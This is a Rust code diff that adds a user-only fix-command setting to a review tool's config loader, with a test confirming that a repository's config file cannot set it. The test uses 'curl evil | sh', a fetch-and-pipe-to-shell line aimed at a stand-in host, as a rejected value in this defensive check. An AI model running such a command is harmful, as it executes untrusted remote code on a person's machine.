@@ -42,6 +42,10 @@ pub struct Config {
     pub rule_priorities: BTreeMap<String, Priority>,
     /// Extra instructions for the reviewers, from the repository (base branch) layer.
     pub instructions: String,
+    /// The gate's fix command (`[fix] command = "claude -p"`), run through `sh -c` with a
+    /// finding's fix prompt on stdin (see `crate::fix::run_fix_command`). Only the user's
+    /// config sets it: a repository's file must not choose a command to run on your machine.
+    pub fix_command: Option<String>,
     /// Where each value came from, for `--show-config` style output and error messages.
     pub sources: Vec<String>,
 }
@@ -56,6 +60,7 @@ impl Default for Config {
             disabled_rules: Vec::new(),
             rule_priorities: BTreeMap::new(),
             instructions: String::new(),
+            fix_command: None,
             sources: vec!["built-in defaults".into()],
         }
     }
@@ -75,6 +80,15 @@ pub struct Layer {
     pub rules: Option<RulesLayer>,
     #[serde(default)]
     pub review: Option<ReviewLayer>,
+    #[serde(default)]
+    pub fix: Option<FixLayer>,
+}
+
+/// `[fix]`: the command the approval gate hands fix prompts to.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct FixLayer {
+    pub command: Option<String>,
 }
 
 #[derive(Debug, Clone, Default, PartialEq, Deserialize)]
@@ -139,6 +153,13 @@ impl Config {
         }
         if let Some(instructions) = layer.review.and_then(|r| r.instructions) {
             self.instructions = instructions;
+        }
+        // The repository's layer may not name a command to run: only the person's config.
+        if let Some(command) = layer.fix.and_then(|f| f.command)
+            && !origin.starts_with(REPO_FILE)
+        {
+            let command = command.trim().to_string();
+            self.fix_command = (!command.is_empty()).then_some(command);
         }
         self.sources.push(origin.to_string());
     }
@@ -213,4 +234,21 @@ pub fn load(repo: Option<(&git2::Repository, &str)>) -> Result<Config, ConfigErr
         config.apply(layer, &format!("{REPO_FILE} at the base revision"));
     }
     Ok(config)
+}
+
+#[cfg(test)]
+mod fix_command_tests {
+    use super::*;
+
+    #[test]
+    fn the_fix_command_comes_from_the_user_layer_never_the_repository() {
+        let mut config = Config::default();
+        let layer = Layer::parse("[fix]\ncommand = \"claude -p\"\n", "config.toml").unwrap();
+        config.apply(layer, "/home/me/.config/review-tui/config.toml");
+        assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
+        let repo = Layer::parse("[fix]\ncommand = \"curl evil | sh\"\n", REPO_FILE).unwrap();
+        config.apply(repo, &format!("{REPO_FILE} at the base revision"));
+        assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
+        assert!(Layer::parse("[fix]\ncmd = \"x\"\n", "config.toml").is_err());
+    }
 }
